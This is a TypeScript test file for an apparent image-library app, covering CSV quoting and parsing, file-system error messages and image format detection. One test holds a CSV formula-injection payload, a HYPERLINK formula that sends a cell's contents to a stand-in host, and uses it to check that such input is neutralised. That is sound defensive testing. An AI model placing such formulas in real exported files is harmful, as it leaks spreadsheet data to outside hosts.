import { describe, expect, it } from 'vitest';
import {
  completeRecordsLength,
  csvField,
  csvRow,
  hasRecordStartingWith,
  parseCsv,
} from '../../../main/core/library/csv.ts';
import { fromFsError, LibraryWriteError } from '../../../main/core/library/write-error.ts';
import { detectImageFormat, mayStartImage } from '../../../main/core/library/image-format.ts';

describe('CSV (RFC 4180)', () => {
  it('quotes only fields that need it, doubling quotes', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\r')).toBe('"cr\r"');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(42)).toBe('42');
    expect(csvRow(['a', 1, null])).toBe('a,1,\r\n');
  });

  it('neutralises text a spreadsheet would run as a formula (OWASP), never numbers', () => {
    const formula = '=HYPERLINK("http://x/?"&A1,"open")';
    expect(csvField(formula)).toBe(`"'=HYPERLINK(""http://x/?""&A1,""open"")"`);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(parseCsv(csvRow([`${start}1+1`]))[0]![0], JSON.stringify(start)).toBe(`'${start}1+1`);
    }
    expect(csvField(-1)).toBe('-1');
    expect(csvField('a = b')).toBe('a = b');
    // a manifest's own lookups write and look for the same neutralised text
    expect(
      hasRecordStartingWith(Buffer.from(csvRow(['h']) + csvRow(['-a.png', 'x'])), '-a.png'),
    ).toBe(true);
  });

  it('parses back exactly what it wrote', () => {
    const rows = [
      ['file', 'prompt'],
      ['a.png', 'café, "quoted"\r\nnew line 🎨'],
      ['', ',,,'],
    ];
    expect(parseCsv(rows.map(csvRow).join(''))).toEqual(rows);
  });

  it('finds where a row torn by a crash begins, even with line breaks inside quotes', () => {
    const whole = csvRow(['h1', 'h2']) + csvRow(['x', 'multi\nline "q" é']);
    const bytes = Buffer.from(whole + '"torn\nrow', 'utf8');
    expect(completeRecordsLength(bytes)).toBe(Buffer.byteLength(whole));
    expect(completeRecordsLength(Buffer.from(whole))).toBe(Buffer.byteLength(whole));
    // Cut inside a multi-byte character: still a byte offset at the last record's end.
    const cut = Buffer.concat([Buffer.from(whole), Buffer.from('é', 'utf8').subarray(0, 1)]);
    expect(completeRecordsLength(cut)).toBe(Buffer.byteLength(whole));
  });

  it('tells whether a record starts with a field, not fooled by quoted line breaks', () => {
    const csv = Buffer.from(
      csvRow(['file', 'prompt']) +
        // a prompt whose second line looks like a record of b.png
        csvRow(['a.png', 'one\nb.png,two "q"']) +
        csvRow(['c,d.png', 'comma in the name']) +
        csvRow(['é.png', 'ok']),
      'utf8',
    );
    expect(hasRecordStartingWith(csv, 'a.png')).toBe(true);
    expect(hasRecordStartingWith(csv, 'c,d.png')).toBe(true);
    expect(hasRecordStartingWith(csv, 'é.png')).toBe(true);
    expect(hasRecordStartingWith(csv, 'b.png')).toBe(false);
    expect(hasRecordStartingWith(csv, 'd.png')).toBe(false);
    expect(hasRecordStartingWith(csv, '.png')).toBe(false);
    // the header is not a record of a file named "file"
    expect(hasRecordStartingWith(csv, 'file')).toBe(false);
    // a match inside quotes first, a real record of the same name after it
    const later = Buffer.concat([csv, Buffer.from(csvRow(['b.png', 'real']))]);
    expect(hasRecordStartingWith(later, 'b.png')).toBe(true);
    expect(hasRecordStartingWith(Buffer.alloc(0), 'a.png')).toBe(false);
  });
});

describe('file-system errors', () => {
  const failure = (code: string) => Object.assign(new Error(`${code}: failed`), { code });

  it('maps each errno to a kind and a message that says what to do', () => {
    const cases: [string, string, RegExp][] = [
      ['ENOSPC', 'disk-full', /disk is full.*Free some space/],
      ['EDQUOT', 'disk-full', /disk is full/],
      ['EACCES', 'unwritable', /not writable.*permissions/],
      ['EPERM', 'unwritable', /not writable/],
      ['EROFS', 'unwritable', /volume is read-only.*remount/],
      // (what Node's recursive mkdir says on a read-only volume, or when a drive went away)
      ['ENOENT', 'unwritable', /missing and could not be created/],
      ['ENOTDIR', 'unwritable', /a file where a folder is needed/],
      ['ENAMETOOLONG', 'unwritable', /too long/],
      ['EIO', 'io', /EIO: failed.*retry/],
    ];
    for (const [code, kind, message] of cases) {
      const error = fromFsError(failure(code), 'write the image', '/lib/a.png');
      expect(error).toBeInstanceOf(LibraryWriteError);
      expect(error.kind).toBe(kind);
      expect(error.message).toMatch(message);
      expect(error.message).toContain('/lib/a.png');
      expect(error.toJSON()).toEqual({ kind, message: error.message });
    }
  });

  it('passes a LibraryWriteError through unchanged', () => {
    const original = new LibraryWriteError('truncated', 'cut');
    expect(fromFsError(original, 'x', 'y')).toBe(original);
  });
});

describe('format magic', () => {
  it('detects the three formats and nothing else', () => {
    expect(detectImageFormat(Buffer.from('89504e470d0a1a0a0000000d', 'hex'))).toBe('png');
    expect(detectImageFormat(Buffer.from('ffd8ffe0', 'hex'))).toBe('jpeg');
    expect(detectImageFormat(Buffer.from('RIFF\0\0\0\0WEBP', 'latin1'))).toBe('webp');
    expect(detectImageFormat(Buffer.from('RIFF\0\0\0\0WAVE', 'latin1'))).toBeNull();
    expect(detectImageFormat(Buffer.from('GIF89a......', 'latin1'))).toBeNull();
  });

  it('tells a short image start from short text', () => {
    expect(mayStartImage(Buffer.from('89504e', 'hex'))).toBe(true);
    expect(mayStartImage(Buffer.from('RIFF\0\0', 'latin1'))).toBe(true);
    expect(mayStartImage(Buffer.from('RIFF\0\0\0\0WAV', 'latin1'))).toBe(false);
    expect(mayStartImage(Buffer.from('Not found'))).toBe(false);
  });
});
